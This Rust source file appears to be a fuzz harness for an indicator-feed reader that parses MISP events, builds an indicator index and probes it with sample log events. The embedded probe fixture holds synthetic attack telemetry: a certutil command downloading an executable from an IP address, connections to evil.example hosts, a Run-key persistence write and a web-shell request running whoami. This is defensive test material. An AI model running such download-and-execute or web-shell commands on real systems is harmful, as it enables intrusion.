//! Indicator feeds: the MISP event reader, and the sweep every feed's indicators go through
//! (the index is built, then probed with the observables of a few events).
//!
//! Why the sweep: a feed's values end up as index keys, CIDR networks and substring
//! automata; an indicator a reader accepted must not break the index.

use std::sync::OnceLock;

use tiaki_evidence::{Event, Format, ReadOptions, read_reader};
use tiaki_indicators::feed::{FeedReport, read_misp_event};
use tiaki_indicators::{Indicator, IndicatorIndex, Observable};

use crate::MAX_INPUT;
use crate::evidence::extractor;

/// Events whose observables probe the index: Sysmon process creation and network
/// connection, DNS, an IIS request (rebuilt into a URL), a registry write.
const PROBE_EVENTS: &str = r##"{"Event":{"System":{"EventID":1,"Computer":"PCO-WEB01","TimeCreated":{"#attributes":{"SystemTime":"2021-03-15T02:15:00Z"}},"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe","Hashes":"MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AEC070645FE53EE3B3763059376134F058CC337247C978ADD178B6CCDFB0019F","User":"PCO\\svc_web"}}}
{"Event":{"System":{"EventID":3,"Computer":"PCO-WEB01","TimeCreated":{"#attributes":{"SystemTime":"2021-03-15T02:16:00Z"}},"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"Image":"C:\\Windows\\System32\\rundll32.exe","DestinationIp":"2001:db8::7","DestinationPort":443,"DestinationHostname":"cdn.evil.example","SourceIp":"10.1.2.3"}}}
{"Event":{"System":{"EventID":22,"Computer":"PCO-WEB01","TimeCreated":{"#attributes":{"SystemTime":"2021-03-15T02:17:00Z"}},"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"QueryName":"update.evil.example","QueryResults":"::ffff:203.0.113.9;"}}}
{"Event":{"System":{"EventID":13,"Computer":"PCO-WEB01","TimeCreated":{"#attributes":{"SystemTime":"2021-03-15T02:18:00Z"}},"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x","Details":"c:\\x.exe"}}}
{"date":"2021-03-15","time":"02:19:00","s-ip":"10.1.2.10","cs-method":"POST","cs-uri-stem":"/aspnet_client/system_web/shell.aspx","cs-uri-query":"cmd=whoami","c-ip":"203.0.113.7","cs(User-Agent)":"Mozilla/5.0+(Windows+NT+10.0)","cs-host":"www.pco.example","sc-status":200}
"##;

/// The probe events and their observables, read and extracted once.
fn probes() -> &'static [(Event, Vec<Observable>)] {
    static PROBES: OnceLock<Vec<(Event, Vec<Observable>)>> = OnceLock::new();
    PROBES.get_or_init(|| {
        let opts = ReadOptions {
            format: Some(Format::Json),
            threads: 1,
            ..ReadOptions::default()
        };
        let mut events = Vec::new();
        read_reader("probe.jsonl", PROBE_EVENTS.as_bytes(), &opts, |b| {
            events.extend(b)
        });
        let x = extractor();
        let mut found = tiaki_indicators::extract::Extracted::default();
        events
            .into_iter()
            .map(|e| {
                x.extract(&e, &mut found);
                let obs = found.observables.clone();
                (e, obs)
            })
            .collect()
    })
}

/// Indexes `indicators` and looks up the observables of every probe event, at the event's
/// time and without one.
pub(crate) fn sweep(indicators: Vec<Indicator>) {
    let verbose = crate::verbose();
    let n = indicators.len();
    for i in &indicators {
        let _ = serde_json::to_string(&i.id);
    }
    let index = IndicatorIndex::build(indicators);
    let _ = index.stats();
    let mut hits = Vec::new();
    for (event, observables) in probes() {
        for time in [event.timestamp, None] {
            hits.clear();
            index.lookup(observables, time, &mut hits);
            if verbose {
                eprintln!(
                    "sweep: {n} indicators, {} observables, {} hits",
                    observables.len(),
                    hits.len()
                );
            }
            for h in &hits {
                let _ = index.get(h.indicator);
                let _ = &observables[h.observable];
            }
        }
    }
}

/// A MISP event (`{"Event": {…}}`, or a MISP REST `{"response": [...]}`) as `--intel` reads
/// each event file of a MISP feed, its indicators then indexed and swept.
pub fn misp_feed(data: &[u8]) {
    if data.len() > MAX_INPUT {
        return;
    }
    let mut out = Vec::new();
    let mut report = FeedReport::default();
    let _ = read_misp_event(data, "fuzz.json", &mut out, &mut report);
    let _ = report.to_string();
    sweep(out);
}
